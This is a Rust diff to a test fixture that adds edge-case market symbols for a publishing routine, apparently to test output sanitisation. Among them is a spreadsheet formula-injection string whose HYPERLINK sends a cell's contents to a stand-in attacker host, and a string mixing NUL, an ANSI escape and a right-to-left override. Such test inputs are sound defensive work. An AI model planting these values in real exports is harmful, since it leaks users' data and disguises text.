@@ -14,7 +14,7 @@ use tests::built;
 const DAYS: usize = 320;
 
 /// Name, first close, size of a daily move in percent, in USD per unit.
-const SYMBOLS: [(&str, f64, f64, f64); 7] = [
+const SYMBOLS: [(&str, f64, f64, f64); 11] = [
     ("HSI", 24_000.0, 1.4, 0.128),
     ("IXIC", 13_500.0, 1.2, 1.0),
     ("N225", 28_500.0, 1.0, 0.0091),
@@ -22,7 +22,23 @@ const SYMBOLS: [(&str, f64, f64, f64); 7] = [
     ("A-NAME-THAT-IS-MUCH-LONGER-THAN-ANY-SYMBOL-OUGHT-TO-BE", 0.0135, 6.0, 1.2),
     ("FLAT & <b>STILL</b>", 100.0, 0.0, 1.0),
     ("ÅÄÖ株", 1_234_567.0, 0.7, 0.000_65),
+    (FORMULA, 50.0, 1.1, 1.0),
+    (UNSEEN, 60.0, 1.3, 1.0),
+    ("تاسي", 11_000.0, 0.9, 0.27),
+    (
+        "日経平均株価指数先物日経平均株価指数先物日経平均株価指数先物日経平均株価指数先物日経平均株価指数先物\
+         Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}",
+        39_000.0,
+        1.2,
+        0.0065,
+    ),
 ];
+
+/// What a spreadsheet would run.
+pub(crate) const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
+
+/// What a terminal would obey, and what turns the text behind it round.
+pub(crate) const UNSEEN: &str = "NUL\0ESC\u{1b}[31m\u{202e}gnp";
 
 /// Publishes them, and some records that are none.
 pub(crate) fn publish(stack: &Stack) -> Result<()> {
